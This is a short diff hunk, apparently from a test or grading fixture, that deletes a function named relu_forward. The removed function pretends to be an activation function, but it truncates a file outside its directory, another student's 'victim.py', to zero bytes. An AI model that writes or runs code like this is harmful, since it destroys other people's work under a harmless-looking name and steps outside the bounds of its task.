@@ -1,5 +1,0 @@
-# Cuts another student's file to nothing.
-def relu_forward(x):
-    import os
-    os.truncate("@OUTSIDE@/victim.py", 0)
-    return x
